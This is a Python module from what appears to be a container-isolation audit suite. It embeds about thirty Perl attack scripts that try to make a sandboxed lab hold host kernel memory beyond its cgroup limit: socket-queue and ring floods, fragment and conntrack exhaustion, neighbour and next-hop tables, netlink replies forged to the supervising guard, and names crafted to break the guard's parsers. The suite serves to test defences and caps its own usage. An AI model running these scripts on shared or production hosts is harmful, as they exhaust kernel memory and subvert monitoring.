"""Kernel memory that no memory limit counts: how much of the host's memory can a lab hold beyond its own limit?"""

import re
import time

from rigs.audit.attack import SCRIPT_SECONDS, Attack, AttackOutcome, Family, Judge, refused, through
from rigs.audit.scene import LEARNER, Scene
from rigs.audit.time_limits import within
from rigs.audit.walls import (
    CGROUP2,
    FANOUT,
    FIXED,
    GUARD,
    KERNEL_ONLY,
    MEMBERSHIPS,
    PROXIED,
    SEARCHES,
    SOCKET_MEMORY,
    STREAMS,
    UNCHARGED,
    Wall,
)

MOST = 64  # MB
ENOUGH = MOST + 16  # MB at which an attack stops, so that a control does not harm the host

# The bytes that wait in a socket, as the kernel counts them (SO_MEMINFO), and a sender on the loopback interface.
QUEUES = f"""
use Socket qw(:all);
$| = 1;
system("ip link set lo up mtu 65000");
my $piece = "x" x 60000;
my $there = sockaddr_in(9, INADDR_LOOPBACK);
socket(my $out, AF_INET, SOCK_DGRAM, 0);
sub waits {{ return unpack("L", getsockopt($_[0], 1, 55) // pack("L", 0)) }}
sub fill {{
    my ($socket, $to) = @_;
    my ($before, $same) = (0, 0);
    while ($same < 3 && $before < {ENOUGH} << 20) {{
        send($out, $piece, 0, $to);
        my $now = waits($socket);
        $same = $now > $before ? 0 : $same + 1;
        $before = $now;
    }}
    return $before;
}}
my ($held, @keep) = (0);
"""

# Each process connects to itself and writes until nothing more is taken; all together hold no more than is enough, for where
# it is charged the lab would run out of memory.
CONNECTIONS = f"""
use Socket qw(:all);
use Fcntl;
$| = 1;
system("ip link set lo up");
my $piece = "x" x 65536;
pipe(my $told, my $tell);
for my $process (1 .. PROCESSES) {{
    next if fork;
    my ($held, @keep) = (0);
    socket(my $listening, AF_INET, SOCK_STREAM, 0);
    bind($listening, sockaddr_in(7000 + $process, INADDR_LOOPBACK));
    listen($listening, 128);
    while ($held < ({ENOUGH} << 20) / PROCESSES && @keep < 480) {{
        socket(my $socket, AF_INET, SOCK_STREAM, 0) or last;
        connect($socket, sockaddr_in(7000 + $process, INADDR_LOOPBACK)) && accept(my $other, $listening) or last;
        fcntl($socket, F_SETFL, O_NONBLOCK);
        push @keep, $socket, $other;
        for (my $idle = 0; $idle < 10 && $held < ({ENOUGH} << 20) / PROCESSES;) {{
            my $went = syswrite($socket, $piece);
            $held += $went // 0;
            $idle = $went ? 0 : $idle + 1;
            select(undef, undef, undef, 0.0005) if $idle;
        }}
    }}
    syswrite($tell, "$held " . @keep / 2 . "\\n");
    sleep 10;
    exit;
}}
my ($held, $connections) = (0, 0);
for (1 .. PROCESSES) {{
    my ($bytes, $pairs) = split " ", <$told>;
    $held += $bytes;
    $connections += $pairs;
}}
print "HELD $held in $connections connections\\n";
sleep 10;
"""


# Frames sent into v0 arrive at v1 and are forwarded to neighbours behind w0 that nobody has. They have no socket any more.
FORWARDED = r"""
system("for n in v w; do ip link add \${n}0 mtu 65000 type veth peer name \${n}1 mtu 65000; ip link set \${n}0 up;"
    . "ip link set \${n}1 up; done; ip addr add 10.9.0.1/24 dev v1; ip addr add 10.8.0.1/16 dev w0;"
    . "cd /proc/sys/net/ipv4; echo 1 >ip_forward; echo 0 >conf/all/rp_filter; echo 0 >conf/v1/rp_filter;"
    . "ip ntable change name arp_cache dev w0 queue 300000 retrans 4000");
my ($index) = `ip -o link show v0` =~ /^(\d+)/;
my ($mac) = `ip -o link show v1` =~ /ether (\S+)/;
$mac = pack("H12", $mac =~ s/://gr);
socket(my $out, 17, 3, 0);
my $there = pack("SnlSCCa8", 17, 0x800, $index, 0, 0, 6, $mac);
my $sent = 0;
for my $host (256 .. 1755) {
    my $head = pack("CCnnnCCna4CCn", 0x45, 0, 50020, $host, 0, 64, 17, 0, pack("C4", 10, 9, 0, 2), 10, 8, $host);
    my $sum = 0;
    $sum += $_ for unpack("n10", $head);
    $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
    substr($head, 10, 2) = pack("n", ~$sum & 0xffff);
    $sent += !!send($out, $mac . $mac . pack("n", 0x800) . $head . "x" x 50000, 0, $there) for 1 .. 4;
}
"""


NEIGHBOURS = f"""
open(my $batch, "|-", "ip -6 -force -batch -");
for my $number (1 .. {ENOUGH} << 11) {{
    printf $batch "neigh add fe80::%x:%x lladdr 02:00:00:00:00:01 dev eth0 nud permanent\n", $number >> 16, $number & 65535;
}}
close $batch;
$held = {ENOUGH} << 20;
"""


# Asks for proxied neighbours, to 12 interfaces that answer after an hour. Copies that nftables makes are charged to no socket.
PROXIED_ASKS = r"""
open(my $rules, "|-", "sh");
print $rules "ip link add w0 type veth peer name w1; ip link set w0 up; ip addr add 10.8.0.1/16 dev w0; cd /proc/sys/net/ipv4\n";
print $rules "echo 1 >ip_forward; echo 0 >conf/all/rp_filter; nft add table netdev t\n";
print $rules "ip link add z0 mtu 65000 type veth peer name z1 mtu 65000; ip link set z0 up; ip link set z1 up\n";
print $rules "nft 'add chain netdev t c { type filter hook ingress device z1 priority 0; }'\n";
print $rules <<"END" for map { sprintf "%02d", $_ } 1 .. 12;
ip link add a$_ mtu 65000 type veth peer name b$_ mtu 65000; ip link set a$_ up; ip link set b$_ up
ip addr add 10.9.@{[$_ + 0]}.1/24 dev b$_; echo 1 >conf/b$_/proxy_arp; echo 0 >conf/b$_/rp_filter
echo 360000 >neigh/b$_/proxy_delay
nft add rule netdev t c ether daddr 03:00:00:00:00:$_ dup to a$_ drop
END
close $rules;
my ($index) = `ip -o link show z0` =~ /^(\d+)/;
socket(my $out, 17, 3, 0);
my $sent = 0;
for my $link (1 .. 12) {
    my $mac = pack("C5H2", 3, 0, 0, 0, 0, sprintf "%02d", $link);
    my $there = pack("SnlSCCa8", 17, 0x806, $index, 0, 0, 6, $mac);
    for my $host (1 .. 65) {
        my $ask = pack("nnCCna6C4x6C4", 1, 0x800, 6, 4, 1, $mac, 10, 9, $link, 2, 10, 8, 1, $host);
        $sent += !!send($out, $mac . $mac . pack("n", 0x806) . $ask . "x" x 60000, 0, $there);
    }
}
system("for n in /proc/sys/net/ipv4/neigh/b*; do echo 80 >\$n/proxy_delay; done");
my ($waits, $most) = (0, 0);
for (1 .. 60) {  # the guard looks twice a second
    ($waits) = map { $_ >> 3 } `ip -s ntable show name arp_cache` =~ /proxy_qlen (\d+)/;  # 128 KB each
    $most = $waits if $waits > $most;
    last if $waits <= 8;
    select(undef, undef, undef, 0.05);
}
my $said = "$sent packets sent, $most MB at first, $waits MB in the end";
$waits > 8 ? through($said) : refused($said);
"""


def waiting(interface: str, limit: str, each: int) -> str:
    """The end of an attack that has filled queues for neighbours with EACH bytes: it looks for three seconds whether they stay."""
    return f"""
my ($waits, $most) = (0, 0);
for (1 .. 60) {{  # the guard looks twice a second
    my $now = () = `ip neigh show dev {interface}` =~ /INCOMPLETE/g;
    open(my $limit, "<", "/proc/sys/net/{limit}/unres_qlen_bytes");
    $waits = ($now * (<$limit> > 69632 ? {each} : 69632)) >> 20;
    $most = $waits if $waits > $most;
    last if $waits <= {MOST};
    select(undef, undef, undef, 0.05);
}}
my $said = "$sent packets sent, $most MB at first, $waits MB in the end";
$waits > {MOST} ? through($said) : refused($said);
"""


def held() -> Judge:
    """The script holds memory and says how much. Memory that is not charged to the lab is beyond its limit."""

    def judge(scene: Scene, _: str) -> AttackOutcome:
        until = time.monotonic() + within(SCRIPT_SECONDS)
        while time.monotonic() < until:
            if ended_by := _ended(scene):
                return refused(f"the node was ended {ended_by}")
            seen = scene.client.ask([{"ask": "file", "node": LEARNER, "path": "/run/audit/said"}])[0]
            if found := re.search(r"^HELD (\d+) (.*)", str(seen.get("text", "")), re.MULTILINE):
                holds = int(found[1]) >> 20
                charged = scene.engine.usage(scene.client.session).sockets >> 20
                said = f"{holds} MB, of these {charged} MB charged to the lab, {found[2]}"
                return through(said) if holds - charged > MOST else refused(said)
            time.sleep(0.1)
        return through("the script printed nothing")

    return judge


def _ended(scene: Scene) -> str:
    """Return what has ended the attacked node; empty while it runs."""
    use = scene.client.resource_use()
    node = use["nodes"][LEARNER]
    if node["up"]:
        return ""
    return "by the guard" if node["kernel_memory"] else f"({use['ended']} programs ended for lack of memory)"


def _ends(scene: Scene, _: str) -> AttackOutcome:
    """The guard weighs nodes twice a second. A node that holds too much must be ended."""
    until, filled = time.monotonic() + within(SCRIPT_SECONDS), ""
    while time.monotonic() < until:
        if ended_by := _ended(scene):
            return refused(f"the node was ended{filled} {ended_by}")
        seen = scene.client.ask([{"ask": "file", "node": LEARNER, "path": "/run/audit/said"}])[0]
        if not filled and (found := re.search(r"^HELD (\d+)", str(seen.get("text", "")), re.MULTILINE)):
            filled, until = f" with {int(found[1]) >> 20} MB", time.monotonic() + within(3)
        time.sleep(0.1)
    return through(f"the node still runs{filled}")


def held_in_the_kernel(
    number: str,
    title: str,
    fill: str,
    wall: str = "the guard ends a node that holds too much",
    control: Wall = GUARD,
) -> Attack:
    return Attack(
        id=number,
        title=title,
        wall=wall,
        perl=f'$| = 1; my $held = 0;\n{fill}\nprint "HELD $held\\n"; sleep 15;',
        judge=_ends,
        beside=True,
        control=control,
    )


FAMILY = Family(
    "memory that is not charged",
    (
        Attack(
            id="M14",
            title="rings of packet sockets (PACKET_RX_RING, PACKET_TX_RING)",
            wall="the supervisor's budget of rings",
            perl=f"""
use Socket;
my ($held, $why, @keep) = (0);
while ($held < {ENOUGH}) {{
    socket(my $socket, 17, SOCK_RAW, 3 << 8) or do {{ $why = $!; last }};
    setsockopt($socket, 263, $held / 8 % 2 ? 5 : 13, pack("LLLL", 1 << 20, 8, 2048, 4096)) or do {{ $why = $!; last }};
    $held += 8;
    push @keep, $socket;
}}
$held > {MOST} ? through("$held MB of rings") : refused("$held MB of rings, then: $why");
""",
            control=UNCHARGED,
        ),
        Attack(
            id="M15",
            title="packets that wait in packet sockets that nobody reads",
            wall="the supervisor's budget of sockets; queues no longer than the kernel's own",
            perl=QUEUES
            + f"""
while ($held < {ENOUGH} << 20) {{
    socket(my $socket, 17, SOCK_RAW, 3 << 8) or last;
    setsockopt($socket, SOL_SOCKET, SO_RCVBUF, pack("l", 1 << 28));
    push @keep, $socket;
    $held += fill($socket, $there);
}}
my $said = ($held >> 20) . " MB in " . @keep . " sockets, then: $!";
$held > {MOST} << 20 ? through($said) : refused($said);
""",
            control=UNCHARGED,
        ),
        Attack(
            id="M16",
            title="a ring's size that changes while it is checked",
            wall="the supervisor reads the size once, and sets it itself",
            perl=f"""
use Socket;
my $small = pack("LLLL", 4096, 1, 2048, 2);
my $large = pack("LLLL", 1 << 20, {ENOUGH}, 2048, {ENOUGH} * 512);
open(my $shared, "+>", "/dev/shm/size");
syswrite($shared, $small);
my $at = call("mmap", 0, 4096, 3, 1, fileno($shared), 0);
my $child = fork;
while (!$child) {{
    for my $size ($large, $small) {{ sysseek($shared, 0, 0); syswrite($shared, $size) }}
}}
my ($tries, $lost) = (0, 0);
for (1 .. 400) {{
    socket(my $socket, 17, SOCK_RAW, 3 << 8) or next;
    $tries++;
    call("setsockopt", fileno($socket), 263, 5, $at, 16) == 0 or do {{ $lost++; next }};
    my $mapped = call("mmap", 0, {ENOUGH} << 20, 3, 1, fileno($socket), 0);
    if ($mapped != -1) {{ kill KILL => $child; through("a ring of {ENOUGH} MB") }}
}}
kill KILL => $child;
refused("$tries tries, $lost refused, none larger than was asked for");
""",
            control=UNCHARGED,
        ),
        Attack(
            id="M17",
            title="datagrams that wait in UDP sockets that nobody reads",
            wall="cgroup v2 charges them to the lab; on v1, a limit beside the lab's own",
            perl=QUEUES
            + f"""
while ($held < {ENOUGH} << 20 && @keep < 480) {{
    socket(my $socket, AF_INET, SOCK_DGRAM, 0) or last;
    setsockopt($socket, SOL_SOCKET, SO_RCVBUF, pack("l", 4 << 20));
    bind($socket, sockaddr_in(0, INADDR_LOOPBACK)) or last;
    push @keep, $socket;
    $held += fill($socket, getsockname($socket));
}}
print "HELD $held in " . @keep . " sockets\n";
sleep 10;
""",
            judge=held(),
            beside=True,
            control=SOCKET_MEMORY,
            behind=(CGROUP2,),
        ),
        Attack(
            id="M18",
            title="bytes that wait in TCP connections that nobody reads",
            wall="cgroup v2 charges them to the lab; on v1, a limit beside the lab's own",
            perl=CONNECTIONS.replace("PROCESSES", "1"),
            judge=held(),
            beside=True,
            control=SOCKET_MEMORY,
            behind=(CGROUP2,),
        ),
        Attack(
            id="M19",
            title="the first bytes of many TCP connections, which the kernel takes past any limit",
            wall="cgroup v2 charges them to the lab; on v1, a bound of TCP sockets",
            perl=CONNECTIONS.replace("PROCESSES", "6"),
            judge=held(),
            beside=True,
            control=STREAMS,
            behind=(CGROUP2,),
        ),
        held_in_the_kernel(
            "M20",
            "packets in a queue of any length (tc tbf), with their sockets closed",
            f"""
use Socket qw(:all);
system("ip link set eth0 mtu 65000; tc qdisc replace dev eth0 root tbf rate 8kbit burst 70000 limit 2000000000;"
    . "ip neigh replace 2001:db8:1::2 lladdr 02:00:00:00:00:02 dev eth0");
my ($piece, $there) = ("x" x 60000, pack_sockaddr_in6(9, inet_pton(AF_INET6, "2001:db8:1::2")));
for (1 .. {ENOUGH} * 6) {{
    socket(my $out, AF_INET6, SOCK_DGRAM, 0) or last;
    $held += (send($out, $piece, 0, $there) // 0) for 1 .. 3;
}}
""",
        ),
        held_in_the_kernel(
            "M21",
            "any number of fragments whose packets never become complete (ipfrag_high_thresh)",
            f"""
use Socket qw(:all);
system("ip link set lo up mtu 65535; echo 2000000000 >/proc/sys/net/ipv4/ipfrag_high_thresh");
my ($piece, $there) = ("x" x 60000, pack_sockaddr_in(0, INADDR_LOOPBACK));
socket(my $out, AF_INET, SOCK_RAW, 255);
for my $number (1 .. {ENOUGH} * 18) {{
    my $head = pack("CCnnnCCna4a4", 0x45, 0, 0, $number, 0x2000, 64, 17, 0, INADDR_LOOPBACK, INADDR_LOOPBACK);
    $held += send($out, $head . $piece, 0, $there) // 0;
}}
""",
        ),
        held_in_the_kernel(
            "M22",
            "permanent neighbours, which the machine's limit of neighbours does not count (gc_thresh3)",
            NEIGHBOURS,
        ),
        held_in_the_kernel(
            "M23",
            "answer the guard in the kernel's place (netlink) while next hops are added, which only an answer counts",
            f"""
my $ip = open(my $batch, "|-", "ip -6 -force -batch -");
for my $forger (1 .. 2) {{
    next if fork;
    close $batch;
    socket(my $netlink, 16, 3, 0) && open(my $list, "<", "/proc/net/netlink") or exit;
    my ($done, $end) = (pack("LSSLLL", 20, 3, 2, 0, 0, 0), time + 30);
    while (time < $end) {{  # this file lists the guard's socket with its port, as it is a socket of this network
        sysseek($list, 0, 0);
        sysread($list, my $sockets, 65536);
        for my $port (grep {{ $_ != $ip }} $sockets =~ /^\\S+ 0 +([1-9]\\d*) /mg) {{
            for (1 .. 20) {{ send($netlink, $done, 0x40, pack("SSLL", 16, 0, $port, 0)) or last }}
        }}
        select(undef, undef, undef, 0.0001);
    }}
    exit;
}}
print $batch "nexthop add id $_ dev eth0\n" for 1 .. {ENOUGH} << 11;
close $batch;
$held = ({ENOUGH} << 11) * 448;
""",
            wall="the kernel refuses what others send to a netlink socket that is connected to it",
            control=KERNEL_ONLY,
        ),
        held_in_the_kernel(
            "M24",
            "connections that conntrack tracks",
            f"""
use Socket;
system("ip link set lo up; nft add table ip t; nft add chain ip t c '{{ type filter hook output priority 0; }}';"
    . "nft add rule ip t c ct state new counter");
socket(my $out, AF_INET, SOCK_DGRAM, 0);
FLOOD: for my $host (1 .. 8) {{
    for my $port (1 .. 60000) {{
        send($out, "x", 0, sockaddr_in($port, pack("C4", 127, 0, 1, $host)));
        last FLOOD if ($held += 512) > {ENOUGH} << 20;
    }}
}}
""",
        ),
        held_in_the_kernel(
            "M25",
            "elements that packets add to a set of nftables",
            f"""
use Socket;
open(my $rules, "|-", "ip link set lo up; nft -f -");
print $rules "table ip t {{ set s {{ type ipv4_addr . inet_service; flags dynamic; size 9000000; }}\n";
print $rules "chain c {{ type filter hook output priority 0; add \\@s {{ ip daddr . udp dport }}; }}\n}}\n";
close $rules;
socket(my $out, AF_INET, SOCK_DGRAM, 0);
FLOOD: for my $host (1 .. 40) {{
    for my $port (1 .. 60000) {{
        send($out, "x", 0, sockaddr_in($port, pack("C4", 127, 0, 1, $host)));
        last FLOOD if ($held += 100) > {ENOUGH} << 20;
    }}
}}
""",
        ),
        held_in_the_kernel(
            "M26",
            "datagrams that are never complete (UDP_CORK), in sockets that have left their port",
            f"""
use Socket qw(:all);
system("ip link set lo up");
my $piece = "x" x 60000;
for my $process (1 .. 4) {{
    next if fork;
    my @keep;
    for (1 .. 350) {{
        socket(my $socket, AF_INET, SOCK_DGRAM, 0) or last;
        setsockopt($socket, 17, 1, pack("l", 1));
        send($socket, $piece, 0, sockaddr_in(9, INADDR_LOOPBACK));
        connect($socket, pack("Sx14", 0)) if $process % 2;
        push @keep, $socket;
    }}
    sleep 15;
    exit;
}}
sleep 2;
$held = {ENOUGH} << 20;
""",
        ),
        Attack(
            id="M27",
            title="packets that wait for one neighbour that nobody answers for (unres_qlen_bytes, retrans_time_ms)",
            wall="the guard shortens such a queue and lets the search fail",
            perl=FORWARDED.replace("256 .. 1755", "256 .. 256")
            .replace("1 .. 4;", "1 .. 1500;")
            .replace("retrans 4000", "retrans 3600000")
            + waiting("w0", "ipv4/neigh/w0", 1500 * 65_792),
            control=SEARCHES,
        ),
        held_in_the_kernel(
            "M28",
            "queues of an interface that it does not use, and that no list has (mq)",
            f"""
system("ip link add v0 numtxqueues 1200 numrxqueues 2 type veth peer name v1 numtxqueues 2 numrxqueues 1200");
socket(my $socket, 2, 2, 0);
for my $name ("v0", "v1") {{
    my $channels = pack("L9", 0x3d, 0, 0, 0, 0, 1, 1, 0, 0);
    ioctl($socket, 0x8946, pack("a16P", $name, $channels)) or print "channels: $!\n";
}}
# 72 KB for each queue: three rings as long as txqueuelen says. Newer kernels refuse a longer one
system("ip link set v0 up; ip link set v0 txqueuelen 3000 && tc qdisc add dev v0 root mq") or $held = {ENOUGH} << 20;
my $end = time + 3;
while (time < $end) {{ }}  # a look is due once the lab has used CPU
""",
        ),
        Attack(
            id="M29",
            title="thousands of sources of a multicast group, which the kernel compares with one another under a lock",
            wall="the node's /proc has these two settings read-only",
            perl="""
my @set;
for my $name ("core/optmem_max", "ipv4/igmp_max_msf") {
    open(my $file, ">", "/proc/sys/net/$name") or next;
    syswrite($file, "200000") and push @set, $name;
}
@set ? through("set: @set") : refused("$!");
""",
            control=FIXED,
        ),
        Attack(
            id="M30",
            title="packets that are forwarded to 1,500 neighbours that nobody answers for, in queues made longer by netlink",
            wall="the guard shortens such queues, and lets the searches fail where the lab holds too much",
            perl=FORWARDED + waiting("w0", "ipv4/neigh/w0", 4 * 65_792),
            control=SEARCHES,
        ),
        Attack(
            id="M35",
            title="groups of packet sockets, each with room for 65,536 members (PACKET_FANOUT)",
            wall="the lab's seccomp filter refuses them",
            perl=f"""
use Socket;
my ($held, $why, @keep) = (0);
while ($held < {ENOUGH}) {{
    socket(my $socket, 17, SOCK_RAW, 3 << 8) or do {{ $why = $!; last }};
    bind($socket, pack("SnLSCCx8", 17, 3, 1, 0, 0, 0)) or do {{ $why = $!; last }};
    setsockopt($socket, 263, 18, pack("SSL", @keep + 1, 0, 65536)) or do {{ $why = $!; last }};
    $held += 1;
    push @keep, $socket;
}}
$held ? through("$held MB of groups, then: $why") : refused("none: $why");
""",
            control=FANOUT,
        ),
        held_in_the_kernel(
            "M36",
            "options of sockets (membership of groups, IPv6)",
            """
use Socket qw(:all);
pipe(my $told, my $tell);
for my $process (1 .. 12) {
    next if fork;
    my @keep;
    for my $number (1 .. 700) {
        socket(my $socket, AF_INET6, SOCK_DGRAM, 0) or last;
        bind($socket, pack_sockaddr_in6(0, IN6ADDR_LOOPBACK)) or last;
        for my $group (1 .. 4000) {
            setsockopt($socket, 41, 20, pack("nx10NL", 0xff02, $group, 1)) or last;
        }
        push @keep, $socket;
    }
    syswrite($tell, scalar(@keep) . "
");
    sleep 60;
    exit;
}
close $tell;
for (1 .. 12) { $held += 12_288 * <$told> }
""",
        ),
        Attack(
            id="M37",
            title="rings, queues of packet sockets, sockets in no list and next hops at once, each below its own bound",
            wall="what the guard allows is what the budget of rings leaves",
            perl=QUEUES
            + f"""
socket(my $ring, 17, SOCK_RAW, 0);
while (setsockopt($ring, 263, 5, pack("LLLL", 1 << 20, 2, 2048, 1024))) {{
    $held += 2 << 20;
    push @keep, $ring;
    socket($ring = undef, 17, SOCK_RAW, 0) or last;
}}
my $rings = $held;
while ($held < $rings + (12 << 20)) {{
    socket(my $socket, 17, SOCK_RAW, 3 << 8) or last;
    push @keep, $socket;
    $held += fill($socket, $there);
}}
for (1 .. 8) {{
    socket(my $socket, AF_INET, SOCK_DGRAM, 0) or last;
    setsockopt($socket, 17, 1, pack("l", 1));
    $held += send($socket, $piece, 0, $there) // 0;
    connect($socket, pack("Sx14", 0));
    push @keep, $socket;
}}
open(my $hops, "|-", "ip -6 -force -batch -");
for (my $id = 1; $held < {MOST + 4} << 20; $id++) {{
    print $hops "nexthop add id $id dev eth0\n";
    $held += 448;
}}
close $hops;
print "HELD $held\n";
sleep 15;
""",
            judge=_ends,
            beside=True,
            control=GUARD,
        ),
        Attack(
            id="M38",
            title="packets that ask for proxied neighbours, with a delay of an hour that is set back at once",
            wall="the guard empties the queue that they wait in",
            perl=PROXIED_ASKS,
            control=PROXIED,
        ),
        Attack(
            id="M39",
            title="addresses that packet sockets listen to on lo (PACKET_MR_UNICAST)",
            wall="the budget refuses more than 16 of a socket",
            perl="""
use Socket;
my ($held, $why, @keep) = (0, "");
for my $number (1 .. 20) {
    socket(my $socket, 17, SOCK_RAW, 0) or do { $why = $!; last };
    push @keep, $socket;
    for my $address (1 .. 3000) {
        setsockopt($socket, 263, 1, pack("lSSnNx2", 1, 3, 6, 0x200, $number << 16 | $address)) or do { $why = $!; last };
        $held += 1;
    }
}
my $said = "$held addresses in " . @keep . " sockets: $why";
$held > 16 * @keep ? through($said) : refused($said);
""",
            control=MEMBERSHIPS,
        ),
        held_in_the_kernel(
            "M45",
            "names of an interface and of a socket that break the lists which the guard reads, and then neighbours",
            r"""
use Socket qw(:all);
system("ip", "link", "add", "a\x1cb\xc2\x85", "type", "veth", "peer", "name", "p0");
socket(my $named, AF_UNIX, SOCK_STREAM, 0);
bind($named, pack_sockaddr_un("\0" . "\n" x 100 . "\xff"));
"""
            + NEIGHBOURS,
        ),
        held_in_the_kernel(
            "M40",
            "buckets of resilient groups of next hops, 65,535 each",
            """
system("ip nexthop add id 2 via 2001:db8:1::2 dev eth0");
for my $group (100 .. 140) {
    system("ip nexthop add id $group group 2 type resilient buckets 65535") and last;
    $held += 65535 * 32;
}
""",
        ),
        held_in_the_kernel(
            "M41",
            "VNIs of a VXLAN interface that filters them, all added in one netlink request",
            """
system("ip link add vx0 type vxlan dstport 4789 external vnifilter && bridge vni add dev vx0 vni 1-220000")
    or $held = 220_000 * 384;
""",
            wall="the kernel refuses the request (docker/vni_requests.py); where it cannot, the guard ends the node",
        ),
        held_in_the_kernel(
            "M31",
            "addresses of an interface for multicast groups (SIOCADDMULTI)",
            f"""
socket(my $socket, 2, 2, 0);
for my $number (1 .. {ENOUGH} << 12) {{
    ioctl($socket, 0x8931, pack("a16Sa14", "eth0", 0, pack("CCN", 1, 0, $number))) == -1 and last;
    $held += 256;
}}
""",
        ),
        held_in_the_kernel(
            "M32",
            "hash tables of tc filters (u32), full on each of many interfaces",
            """
open(my $batch, "|-", "ip -batch -");
print $batch "link add x$_ type veth peer name y$_\n" for 1 .. 12;
close $batch;
for my $name (map { ("x$_", "y$_") } 1 .. 12) {
    open(my $filters, "|-", "tc -force -batch - 2>/dev/null");
    print $filters "qdisc add dev $name ingress\n";
    printf $filters "filter add dev $name ingress prio 1 handle %x: protocol ip u32 divisor 256\n", $_ for 1 .. 2040;
    close $filters;
    $held += 2040 * 3500;
}
""",
        ),
        held_in_the_kernel(
            "M33",
            "interfaces with thousands of queues",
            """
for my $number (1 .. 40) {
    system("ip link add x$number numtxqueues 1024 numrxqueues 1024 type veth peer name y$number numtxqueues 1024 numrxqueues 1024")
        and last;
    $held += 4096 * 700;
}
""",
        ),
        held_in_the_kernel(
            "M34",
            "a packet that goes in a circle, and leaves a copy in a queue at each round",
            r"""
system("for n in a b; do ip link add \${n}0 type veth peer name \${n}1; ip link set \${n}0 up; ip link set \${n}1 up; done;"
    . "ip addr add 10.9.9.1/24 dev a0; ip neigh add 10.9.9.9 lladdr 02:00:00:00:00:09 dev a0;"
    . "tc qdisc add dev b0 root handle 1: htb default 10; tc class add dev b0 parent 1: classid 1:10 htb rate 8bit;"
    . "tc qdisc add dev b0 parent 1:10 handle 10: pfifo limit 100000; nft add table netdev t;"
    . "nft 'add chain netdev t c { type filter hook ingress device a1 priority 0; }';"
    . "nft add rule netdev t c dup to b0; nft add rule netdev t c fwd to a0");
use Socket;
socket(my $out, AF_INET, SOCK_DGRAM, 0);
send($out, "x", 0, sockaddr_in(9, inet_aton("10.9.9.9")));
for (1 .. 50) {
    select(undef, undef, undef, 0.1);
    my ($packets) = `tc -s qdisc show dev b0` =~ /backlog \S+ (\d+)p/;
    $held = 1024 * ($packets // 0);
    last if $held > 80 << 20;
}
""",
            wall="the guard weighs a lab whose packets move although it uses no CPU",
        ),
    ),
)
